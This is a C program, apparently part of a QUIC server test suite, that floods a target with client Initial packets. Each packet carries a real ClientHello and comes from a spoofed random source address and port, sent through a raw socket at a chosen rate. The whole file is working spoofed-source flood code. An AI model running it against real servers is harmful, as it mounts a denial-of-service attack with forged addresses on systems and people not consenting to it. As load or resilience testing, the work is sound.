// SPDX-License-Identifier: BSD-3-Clause
/*
 * A flood of QUIC client Initials from spoofed sources (t_quic_live.sh):
 * each hello from a random address of a network and a random port, with a
 * Destination Connection ID of its own, carrying a real ClientHello (in
 * hex, as tshark reassembled it from a real client's Initials) in CRYPTO
 * frames sealed with that DCID's Initial keys as a client seals them
 * (quicpkt.h): all an off-path sender can show a server's host. Nothing
 * it sends can be validated: the answers go to addresses nobody holds.
 *
 * usage: quicflood DST PORT COUNT SRC_NET/LEN HELLO_HEX_FILE [PER_SECOND]
 *
 * One datagram of 1,200 bytes per 1,000 bytes of hello (a hello of 1.9 KB:
 * two Initials, as Chromium's), through a raw IP socket (the source address
 * is ours to write), IPv4 or IPv6 as DST is; PER_SECOND hellos a second
 * (default: as fast as it goes). Prints "sent D datagrams, H hellos, F
 * failed sends"; exit status 0 when every send succeeded.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "quic.h"
#include "quicpkt.h"

#define PIECE 1000              /* hello bytes per Initial */

struct net {
	int ver;                /* 4 or 6 */
	__u8 base[16];
	int bits;               /* prefix length */
};

static void usage(void)
{
	fprintf(stderr, "usage: quicflood DST PORT COUNT SRC_NET/LEN HELLO_HEX_FILE [PER_SECOND]\n");
	exit(2);
}

static long number(const char *s, long lo, long hi)
{
	char *end;
	long v;

	errno = 0;
	v = strtol(s, &end, 10);
	if (errno || end == s || *end || v < lo || v > hi) {
		fprintf(stderr, "quicflood: '%s': a number from %ld to %ld expected\n", s, lo, hi);
		exit(2);
	}
	return v;
}

static int parse_addr(const char *s, __u8 out[16])
{
	if (inet_pton(AF_INET, s, out) == 1)
		return 4;
	if (inet_pton(AF_INET6, s, out) == 1)
		return 6;
	return 0;
}

static void parse_net(const char *s, struct net *n)
{
	char buf[64];
	char *slash;

	snprintf(buf, sizeof(buf), "%s", s);
	slash = strchr(buf, '/');
	if (!slash)
		usage();
	*slash = 0;
	n->ver = parse_addr(buf, n->base);
	if (!n->ver)
		usage();
	n->bits = (int)number(slash + 1, 8, n->ver == 4 ? 30 : 126);
}

/* The hello's bytes from a file of hex digits (white space ignored). */
static int read_hello(const char *path, __u8 *out, int cap)
{
	FILE *f = fopen(path, "r");
	int c, n = 0, nib = -1;

	if (!f) {
		fprintf(stderr, "quicflood: %s: %s\n", path, strerror(errno));
		exit(1);
	}
	while ((c = fgetc(f)) != EOF) {
		int v = c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 :
			c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;

		if (v < 0)
			continue;
		if (nib < 0) {
			nib = v;
			continue;
		}
		if (n == cap)
			pkt_fail("quicflood: %s: a hello over %d bytes", path, cap);
		out[n++] = (__u8)(nib << 4 | v);
		nib = -1;
	}
	fclose(f);
	if (n < 4 || out[0] != 1 || n != 4 + (out[1] << 16 | out[2] << 8 | out[3]))
		pkt_fail("quicflood: %s: a ClientHello handshake message expected (%d bytes)", path, n);
	return n;
}

static void random_bytes(void *p, size_t n)
{
	if (getrandom(p, n, 0) != (ssize_t)n)
		pkt_fail("quicflood: getrandom: %s", strerror(errno));
}

/* A random address of net n, as text. */
static void random_src(const struct net *n, char *out, size_t cap)
{
	__u8 a[16], r[16];
	int len = n->ver == 4 ? 4 : 16, i;

	random_bytes(r, sizeof(r));
	for (i = 0; i < len; i++) {
		int keep = n->bits - 8 * i;     /* prefix bits in this byte */
		__u8 mask = keep >= 8 ? 0xff : keep <= 0 ? 0 : (__u8)(0xff << (8 - keep));

		a[i] = (n->base[i] & mask) | (r[i] & ~mask);
	}
	if (a[len - 1] == 0 || a[len - 1] == 0xff)      /* not .0 or .255 */
		a[len - 1] = 7;
	inet_ntop(n->ver == 4 ? AF_INET : AF_INET6, a, out, (socklen_t)cap);
}

/* One datagram (payload of len bytes) from src:sport to dst:dport. */
static int send_dgram(int fd, int ver, const char *src, const char *dst, const __u8 *dst_raw,
		      __u16 sport, __u16 dport, const __u8 *payload, int len)
{
	struct pspec s = { .ver = ver, .src = src, .dst = dst, .proto = NH_UDP, .udp = 1,
			   .sport = sport, .dport = dport, .data = payload, .payload = len,
			   .ttl = 64, .frag = ver == 4 ? IPF_DF : 0 };
	struct sockaddr_storage ss = { 0 };
	socklen_t sl;
	static struct frame f;
	int tries;

	build(&s, &f);
	if (ver == 4) {
		struct sockaddr_in *a = (struct sockaddr_in *)&ss;

		a->sin_family = AF_INET;
		memcpy(&a->sin_addr, dst_raw, 4);
		sl = sizeof(*a);
	} else {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;

		a->sin6_family = AF_INET6;
		memcpy(&a->sin6_addr, dst_raw, 16);
		sl = sizeof(*a);
	}
	/* a full queue: wait a little and try again (a flood, not a race) */
	for (tries = 0; tries < 100; tries++) {
		if (sendto(fd, f.b + f.l3, (size_t)(f.len - f.l3), 0, (struct sockaddr *)&ss,
			   sl) == f.len - f.l3)
			return 0;
		if (errno != ENOBUFS && errno != EAGAIN)
			break;
		nanosleep(&(struct timespec){ 0, 200000 }, NULL);
	}
	fprintf(stderr, "quicflood: sendto from %s: %s\n", src, strerror(errno));
	return -1;
}

/* Seconds on the monotonic clock. */
static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Sleep until t (monotonic seconds). */
static void sleep_until(double t)
{
	double d = t - now_s();

	if (d > 0)
		nanosleep(&(struct timespec){ (time_t)d, (long)((d - (time_t)d) * 1e9) }, NULL);
}

int main(int argc, char **argv)
{
	static __u8 hello[HELLO_MAX], pkt[2048];
	struct qp_piece pieces[HELLO_MAX / PIECE + 1];
	int cuts[HELLO_MAX / PIECE], ncuts = 0, npieces, len, ver, fd, k;
	long count, rate = 0, i, sent = 0, failed = 0;
	double start;
	__u8 dst[16];
	struct net net;
	__u16 dport;

	if (argc != 6 && argc != 7)
		usage();
	if (argc == 7)
		rate = number(argv[6], 1, 10000000);
	ver = parse_addr(argv[1], dst);
	if (!ver)
		usage();
	dport = (__u16)number(argv[2], 1, 65535);
	count = number(argv[3], 1, 1000000);
	parse_net(argv[4], &net);
	if (net.ver != ver) {
		fprintf(stderr, "quicflood: %s and %s: not the same family\n", argv[1], argv[4]);
		return 2;
	}
	len = read_hello(argv[5], hello, sizeof(hello));
	for (k = PIECE; k < len; k += PIECE)
		cuts[ncuts++] = k;
	npieces = qp_cut(len, cuts, ncuts, pieces);
	fd = socket(ver == 4 ? AF_INET : AF_INET6, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "quicflood: raw socket: %s\n", strerror(errno));
		return 1;
	}
	start = now_s();
	for (i = 0; i < count; i++) {
		__u8 dcid[8], scid[8];
		char src[INET6_ADDRSTRLEN];
		__u16 sport;

		if (rate)
			sleep_until(start + (double)i / (double)rate);
		random_bytes(dcid, sizeof(dcid));
		random_bytes(scid, sizeof(scid));
		random_bytes(&sport, sizeof(sport));
		sport = (__u16)(1024 + sport % (65536 - 1024));
		random_src(&net, src, sizeof(src));
		for (k = 0; k < npieces; k++) {
			struct qp_spec s = { .type = 0, .dcid = dcid, .dcid_len = 8, .scid = scid,
					     .scid_len = 8, .pn = (__u64)k, .pad_to = 1200 };
			int n = qp_initial(&s, hello, &pieces[k], 1, pkt, sizeof(pkt));

			if (send_dgram(fd, ver, src, argv[1], dst, sport, dport, pkt, n))
				failed++;
			else
				sent++;
		}
	}
	close(fd);
	printf("sent %ld datagrams, %ld hellos, %ld failed sends\n", sent, count, failed);
	return failed ? 1 : 0;
}
